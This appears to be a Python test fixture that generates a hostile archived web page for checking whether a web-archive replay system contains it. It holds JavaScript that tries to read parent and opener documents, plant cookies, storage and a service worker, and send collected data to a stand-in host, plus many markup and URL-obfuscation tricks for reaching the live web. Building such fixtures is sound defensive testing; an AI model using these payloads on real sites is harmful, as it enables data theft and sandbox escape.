"""An archived page that wants to see more than itself, and to be seen elsewhere."""

from __future__ import annotations

_SCRIPT = """
document.title = 'bị chiếm';
const spoils = [];
const take = what => { try { spoils.push(what()); } catch (error) {} };
take(() => top.document.title); take(() => parent.document.body.innerHTML);
take(() => opener.document.title); take(() => document.cookie = 'xau=1');
take(() => localStorage.setItem('xau', '1')); take(() => indexedDB.open('xau'));
take(() => navigator.serviceWorker.register('/wayback/20240301030000js_/http://xau.vn/sw.js'));
for (const where of ['ROOM/', 'ROOM/article/x', '/wayback/*/http://xau.vn/', 'http://live.example/']) {
  take(() => fetch(where, {credentials: 'include', mode: 'no-cors'}));
  take(() => navigator.sendBeacon(where, 'x'));
}
take(() => new WebSocket('ws://live.example/')); take(() => { location = 'http://live.example/'; });
take(() => { new Image().src = 'http://live.example/?' + spoils.join(); });
"""

_MARKUP = """
<!DOCTYPE html><html><head><title>Trang xấu</title>
<meta http-equiv="refresh" content="0; url=http://live.example/refresh">
<meta http-equiv="Content-Security-Policy" content="img-src 'none'">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="dns-prefetch" href="//dns.live.example"><link rel=preconnect href=https://pre.live.example>
<link rel="prefetch" href="http://live.example/p"><link rel=stylesheet href=http://live.example/a.css>
<link rel="stylesheet" href="/xau.css"><link rel=manifest href="http://live.example/m">
<script src="http://live.example/a.js"></script><script src="/xau.js"></script>
<script>SCRIPT</script><script type=module>SCRIPT</script>
<script type="speculationrules">{"prefetch": [{"urls": ["http://live.example/s"]}]}</script>
<style>@import "http://live.example/b.css"; @import url(//live.example/c.css);
p { background: \\75rl(http://live.example/d.png) } h1 { background: url(http://live.example/e.png) }
@font-face { font-family: x; src: url(http://live.example/f.woff) } h1 { font-family: x }</style>
<base target="_self"></head>
<body onload="SCRIPT" background="http://live.example/g.png">
<h1>Trang</h1><p style="background-image:url('http://live.example/h.png')">x</p>
<img src="http://live.example/i.png" onerror="SCRIPT" srcset="http://live.example/j.png 2x">
<img src="/tot.png" id="tot"><picture><source srcset="http://live.example/k.png"><img src="/tot.png"></picture>
<a id=a1 href="http://live.example/">1</a><a id=a2 href="javascript:SCRIPT">2</a>
<a id=a3 href="//live.example" target=_blank ping="http://live.example/ping">3</a>
<a id=a4 href="http:\\\\live.example\\">4</a><a id=a5 href="&#104;ttp://live.example/">5</a>
<a id=a6 href="ht&#10;tp://live.example/">6</a><a id=a7 href=" &#1;http://live.example/">7</a>
<iframe src="ROOM/"></iframe><iframe src="http://live.example/"></iframe>
<iframe srcdoc="<script>SCRIPT</script><img src=http://live.example/l.png><a href=http://live.example/>x</a>"></iframe>
<object data="http://live.example/o"></object><embed src="http://live.example/e.swf">
<video src="http://live.example/v.mp4" poster="http://live.example/v.png" autoplay></video>
<audio src="http://live.example/a.mp3" autoplay></audio>
<svg width=9 height=9 onload="SCRIPT"><script>SCRIPT</script><a id=a8 xlink:href="http://live.example/"><text y=9>8</text></a>
<image href="http://live.example/s.png"/><use href="http://live.example/u.svg#x"/>
<a id=a9 href="#"><animate attributeName="href" to="http://live.example/" dur="1ms" fill="freeze"/><text>9</text></a>
<style><a id=a10 href="http://live.example/">10</a></style></svg>
<form action="http://live.example/form"><button formaction="//live.example/b">gửi</button></form>
<div><template shadowrootmode="open"><img src="http://live.example/t.png"></template></div>
<noscript><img src="http://live.example/n.png"></noscript>
</body></html>
"""

SHEET = "h1 { color: rgb(4, 5, 6) } @import 'http://live.example/z.css'; p { cursor: url(//live.example/c) }"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_SCRIPT}"><script>{_SCRIPT}</script></svg>'


def page(room: str) -> str:
    """The page; `room` is scheme, host and port of the reading room that it is after."""
    script = _SCRIPT.replace("ROOM", room)
    quoted = script.replace('"', "&quot;").replace("\n", " ")
    parts = _MARKUP.split("<script")
    whole = "<script".join(
        [parts[0], *(part.replace(">SCRIPT<", f">{script}<") for part in parts[1:])]
    )
    return whole.replace("SCRIPT", quoted).replace("ROOM", room)
